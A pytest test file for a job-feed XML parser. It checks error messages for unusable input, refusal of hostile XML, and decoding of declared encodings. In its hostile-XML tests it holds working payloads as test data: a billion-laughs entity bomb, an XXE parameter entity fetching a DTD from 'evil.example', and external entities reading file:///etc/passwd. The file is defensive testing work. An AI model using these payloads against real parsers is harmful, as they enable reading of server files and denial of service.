"""The XML guard: unusable, hostile and oddly encoded documents."""


import pytest

from models.feed import (
    FeedError,
    JobPosting,
    check_safe_xml,
    parse_feed,
)
from models.feed import parse as feed_parse
from tests.unit.feed_helpers import FEEDS, FIXTURES, REFUSED, SRC, only_posting, read, rss

# --------------------------------------------------------------------------- feed-level errors


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        (b"", "empty body"),
        (b"   \r\n\t ", "empty body"),
        (b"\xef\xbb\xbf  \n", "empty body"),
        (read(FEEDS / "broken-truncated.xml"), "XML parse error: no element found: line 16, column 23"),
        (b"<foo/>", "not a feed: root element <foo>"),
        (b'<?xml version="1.0"?><opml version="2.0"><body/></opml>', "not a feed: root element <opml>"),
        (
            b"<html><head><title>Login</title></head><body>Sign in</body></html>",
            "not a feed: root element <html> (an HTML page, not a feed)",
        ),
        (
            b"<!doctype html>\n<html><head><meta charset=utf-8><title>502</title></head></html>",
            "not a feed: looks like an HTML page (XML parse error: syntax error: line 1, column 0)",
        ),
        (
            b"<!DOCTYPE html><html><head><meta charset=utf-8></head><body><br></body></html>",
            "not a feed: root element <html> (an HTML page, not a feed)",
        ),
        (b"Service Unavailable", "XML parse error: syntax error: line 1, column 0"),
        (b'{"jobs": []}', "XML parse error: not well-formed (invalid token): line 1, column 0"),
        (b'<?xml version="1.0"?>\n', "XML parse error: no element found: line 2, column 0"),
        (rss("<item><title>a &nbsp; b</title></item>"), "XML parse error: undefined entity"),
        (b"<rss><channel><item><title>x</item></channel></rss>", "XML parse error: mismatched tag"),
    ],
    ids=[
        "empty",
        "whitespace",
        "bom-only",
        "truncated",
        "not-a-feed",
        "opml",
        "xhtml-page",
        "html5-page",
        "html5-page-upper-doctype",
        "plain-text",
        "json",
        "prolog-only",
        "html-entity-in-xml",
        "mismatched-tag",
    ],
)
def test_unusable_feed_raises_feed_error_with_clear_message(payload: bytes, message: str) -> None:
    with pytest.raises(FeedError) as info:
        parse_feed(payload, SRC)
    assert str(info.value).startswith(message)


def test_truncated_sample_fails_as_a_whole_not_with_partial_items() -> None:
    with pytest.raises(FeedError, match=r"^XML parse error: no element found"):
        parse_feed(read(FEEDS / "broken-truncated.xml"), SRC)


# --------------------------------------------------------------------------- hostile XML

UTF16_BOMB = (
    '<?xml version="1.0" encoding="UTF-16"?>'
    '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    "<rss><channel><title>&b;</title></channel></rss>"
).encode("utf-16")


@pytest.mark.parametrize(
    "payload",
    [
        read(FEEDS / "hostile-entity-expansion.xml"),
        read(FIXTURES / "xxe.rss.xml"),
        # parameter entity pulling an external DTD
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><rss><channel/></rss>',
        # declaration hidden behind a comment and a processing instruction
        b'<?xml version="1.0"?><!-- <rss> --><?pi <rss>?><!DOCTYPE rss [ <!-- ]> -->'
        b' <!ENTITY x "y"> ]><rss><channel><title>&x;</title></channel></rss>',
        # an entity value containing "]>" must not end the scan early
        b'<!DOCTYPE rss [<!ENTITY a "]>"><!ENTITY b SYSTEM "file:///etc/passwd">]><rss/>',
        # public external entity, UTF-8 BOM in front
        b'\xef\xbb\xbf<!DOCTYPE rss [<!ENTITY e PUBLIC "-//x//y" "file:///etc/hostname">]><rss/>',
        # unparsed entity
        b'<!DOCTYPE rss [<!NOTATION n SYSTEM "n"><!ENTITY u SYSTEM "u.bin" NDATA n>]><rss/>',
        # a non-ASCII-compatible encoding cannot hide the declaration from the check
        UTF16_BOMB,
    ],
    ids=[
        "billion-laughs-sample",
        "xxe-system",
        "parameter-entity",
        "after-comment-and-pi",
        "quoted-terminator",
        "public-with-bom",
        "unparsed-entity",
        "utf16",
    ],
)
def test_hostile_xml_is_refused_before_parsing(payload: bytes) -> None:
    with pytest.raises(FeedError) as info:
        check_safe_xml(payload)
    assert str(info.value) == REFUSED
    with pytest.raises(FeedError) as info:
        parse_feed(payload, SRC)
    assert str(info.value) == REFUSED


def test_item_parse_refuses_entities_even_if_prolog_check_is_bypassed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Second line of defence: the item parse stops the bomb on its own (the well-formedness pass skipped too)."""
    monkeypatch.setattr(feed_parse, "_read_prolog", lambda payload: ("rss", {}))
    monkeypatch.setattr(feed_parse, "_check_well_formed", lambda payload: None)
    with pytest.raises(FeedError) as info:
        parse_feed(read(FEEDS / "hostile-entity-expansion.xml"), SRC)
    assert str(info.value) == REFUSED


@pytest.mark.parametrize(
    "payload",
    [
        read(FEEDS / "wp-job-manager.rss.xml"),
        read(FEEDS / "careers.atom.xml"),
        # RSS 0.91 documents legitimately carry an external DOCTYPE (no entity declared)
        b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
        b' "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss version="0.91"><channel/></rss>',
        # "<!ENTITY" as text inside the document is harmless
        rss("<item><guid>g</guid><description><![CDATA[<!ENTITY x 'y'>]]></description></item>"),
    ],
    ids=["wp", "atom", "rss091-doctype", "entity-text-in-cdata"],
)
def test_safe_xml_passes_the_check(payload: bytes) -> None:
    check_safe_xml(payload)
    parse_feed(payload, SRC)


def test_external_dtd_is_never_fetched_nor_its_entities_expanded() -> None:
    payload = (
        b'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "file:///etc/passwd">'
        b"<rss><channel><title>a&xxe;b</title><item><link>https://a.example/1</link>"
        b"<title>x&xxe;y</title></item></channel></rss>"
    )
    parsed = parse_feed(payload, SRC)
    assert parsed.title == "ab"
    job = parsed.items[0]
    assert isinstance(job, JobPosting)
    assert job.title == "xy"


def test_entity_in_internal_subset_of_xxe_fixture_is_declared_system() -> None:
    """Guard the fixture itself: it must really be an XXE attempt."""
    raw = read(FIXTURES / "xxe.rss.xml")
    assert b'<!ENTITY xxe SYSTEM "file:///etc/passwd">' in raw
    assert b"&xxe;" in raw


# --------------------------------------------------------------------------- encodings


def test_utf8_bom_is_handled() -> None:
    plain = parse_feed(read(FEEDS / "careers.atom.xml"), SRC)
    with_bom = parse_feed(b"\xef\xbb\xbf" + read(FEEDS / "careers.atom.xml"), SRC)
    assert with_bom == plain
    assert len(with_bom.items) == 15


@pytest.mark.parametrize(
    ("doc", "codec", "external_id", "title"),
    [
        (
            '<?xml version="1.0" encoding="UTF-16"?><rss version="2.0"><channel><title>Zürich</title>'
            "<item><guid>ü-1</guid><title>Übersetzer</title></item></channel></rss>",
            "utf-16",
            "ü-1",
            "Übersetzer",
        ),
        (
            '<?xml version="1.0" encoding="windows-1252"?><rss version="2.0"><channel>'
            "<item><guid>1</guid><title>Caf\u00e9 \u2013 \u20ac</title></item></channel></rss>",
            "cp1252",
            "1",
            "Caf\u00e9 \u2013 \u20ac",
        ),
    ],
    ids=["utf-16", "windows-1252"],
)
def test_feed_is_decoded_from_the_encoding_its_prolog_declares(doc: str, codec: str, external_id: str, title: str) -> None:
    job = only_posting(doc.encode(codec))
    assert (job.external_id, job.title) == (external_id, title)
